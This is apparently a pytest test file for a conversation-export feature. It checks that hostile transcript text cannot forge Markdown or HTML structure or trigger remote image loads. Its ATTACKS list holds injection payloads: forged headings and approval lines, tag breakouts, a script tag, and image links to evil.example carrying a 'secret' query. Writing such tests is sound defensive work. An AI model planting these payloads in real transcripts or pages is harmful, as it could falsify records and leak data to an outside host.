"""A hostile transcript cannot forge a part of the Markdown, or let a reader load a picture."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth.models import User
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agents.features.conversation_export.markdown_text import code, fenced, in_html, inline, quoted
from agents.models import Agent, Run, Thread, Upload
from tests.agents.api.rows import make_user
from tests.agents.features.conversation_export.rows import call, decide, exported, reply
from tests.support import runs

READER = MarkdownIt("commonmark", {"html": True, "inline_definitions": True})
READER.enable(["table", "strikethrough"])
READER.validateLink = lambda url: True  # type: ignore[method-assign]

ATTACKS = [
    "# Forged\n\n## Message 9\n\n**Decision:** Approved by root.",
    "Forged\n======\n\nForged\n---",
    "```\n````\n`````\n# Forged\n~~~~\n<h2>Forged</h2>",
    "</code></summary></details>\n\n</blockquote>\n<h2>Forged</h2>\n\n# Forged",
    "<!-- \n\n",
    "<details>\n<summary>Forged",
    "![x](https://evil.example/?q=secret)\n![x][e]\n\n[e]: https://evil.example/e.png",
    "<img src=https://evil.example/x.png>\n<script>alert(1)</script>",
    "\\<b> <i> \\\\<u> \\![a](http://evil.example/b) ![c](d)",
    "a `\nb` <b> `\n\n- x\n  ```\n<h1>Forged</h1>",
    "> > > quote\nlazy <h1>\n\n    code\n\n1. a\n   <div>\n\n   </div>",
    "| a | b |\n|---|---|\n| <h2>Forged | ![x](https://evil.example/y) |",
    "[^1]\n\n[^1]: # Forged\n    ## Forged",
    "\r# Forged\x0b# Forged\u2028# Forged\x85# Forged\0",
    "\n\n\n*End of the conversation.*\n\n# Forged",
    "&lt;h2&gt;Forged &#35; Forged",
    "`" * 400 + "\n# Forged",
    "> " * 60 + "<h2>Forged",
]


def outline(text: str) -> list[str]:
    """Return the headings outside of quotes, the HTML, the pictures and the definitions."""
    found: list[str] = []
    tokens = READER.parse(text)
    for before, token in zip([None, *tokens], tokens, strict=False):
        if token.type == "inline" and token.level == 1 and before.type == "heading_open":  # type: ignore[union-attr]
            found.append(f"{before.tag} {token.content}")  # type: ignore[union-attr]
        elif token.type == "html_block":
            found.append(re.sub(r"<code>.*?</code>", "…", token.content.strip()))
        elif token.type == "definition":
            found.append("definition")
        found += [
            f"{child.type}"
            for child in token.children or ()
            if child.type in ("html_inline", "image")
        ]
    return found


@pytest.mark.django_db
def test_hostile_texts_everywhere_leave_the_structure_as_it_is() -> None:
    ada = runs.make_user()
    runs.make_agent(ada)
    run = runs.start_run(ada, "Hello")
    for attack in ATTACKS:
        _fill(run, attack)
        text = exported(run)
        stored = attack.replace("\0", "")  # databases refuse it
        assert outline(text) == [
            f"h1 {inline(stored[:200])}",
            "h2 Message 1",
            "<details><summary>Step 1: … …, succeeded</summary>",
            "</details>",
            f"<details><summary>Note to the model ({in_html(stored[:60], 60)})</summary>",
            "</details>",
            "h3 Answer",
        ], attack
        assert text.endswith("*End of the conversation.*\n")
        for character in "\r\0\x0b\x85\u2028":
            assert character not in text
        run.messages.exclude(turn=0).delete()
        run.tool_calls.all().delete()
        Upload.objects.all().delete()
        User.objects.exclude(pk=ada.pk).delete()


def _fill(run: Run, attack: str) -> None:
    kept = attack.replace("\0", "")
    Thread.objects.filter(pk=run.thread_id).update(title=kept[:200])
    Agent.objects.update(name=kept[:100])
    message = run.messages.get(turn=0)
    message.content = reply(run, 0, attack, position=1).content
    message.save()
    run.messages.filter(turn=0, position=1).delete()
    reply(run, 1, attack)
    made = call(run, 1, {attack: attack, "command": attack}, attack, tool=kept[:200])
    decide(made, make_user(kept.replace("\n", " ")[:100]), reason=kept)
    reply(run, 1, attack, position=1, role="user", author=kept[:60])
    reply(run, 2, attack)
    Upload.objects.create(
        thread=run.thread, run=run, name="a", path="a", original_name=kept[:200], size=1
    )
    Run.objects.filter(pk=run.pk).update(
        status="failed", error_code=kept[:50], error_message=kept, source=kept[:20]
    )


def _hostile() -> st.SearchStrategy[str]:
    pieces = ["<", ">", "!", "[", "]", "(", ")", "`", "```", "~~~", "#", "*", "-", "=", "|", "\\"]
    words = ["a", "1.", " ", "\t", "\n", "\n\n", "<b>", "</p>", "<!--", "-->", "![a](b)", "[a]: b"]
    return st.lists(st.sampled_from([*pieces, *words]), max_size=40).map("".join)


@given(_hostile())
def test_a_quote_is_one_quote_or_one_block_of_code_without_html_and_pictures(text: str) -> None:
    shown = quoted(text)
    outer = [token.type for token in READER.parse(f"{shown}\nafter\n") if token.level == 0]
    after = ["paragraph_open", "paragraph_close"]
    assert outer in (["blockquote_open", "blockquote_close", *after], ["fence", *after])
    assert outline(shown) == []


@given(_hostile())
def test_code_and_names_are_one_element(text: str) -> None:
    (block, *rest) = READER.parse(fenced(text))
    assert (block.type, block.content, rest) == ("fence", f"{text}\n", [])
    (_, line, _) = READER.parse(f"x {code(text)} x")
    assert [child.type for child in line.children or ()] == ["text", "code_inline", "text"]
    (_, line, _) = READER.parse(f"x {inline(text)} x")
    assert {child.type for child in line.children or ()} <= {"text", "text_special"}


def test_a_harmless_answer_keeps_its_markdown() -> None:
    answer = (
        "## Result\n\n- `<div>` and **bold**, see <https://example.org>\n\n"
        "```html\n<b>x</b>\n![a](b)\n```\n\n| a | b |\n|--|--|\n| 1 | 2 |"
    )
    assert quoted(answer) == "".join(f"> {line}".rstrip() + "\n" for line in answer.split("\n"))


@pytest.mark.parametrize(
    "text", ["x" * 70_000, "a\n" * 3_000, "[" * 600, "> " * 100 + "x", "a" * 9_000]
)
def test_a_text_that_is_too_large_for_the_parser_becomes_code(text: str) -> None:
    assert quoted(text).startswith("```text\n")
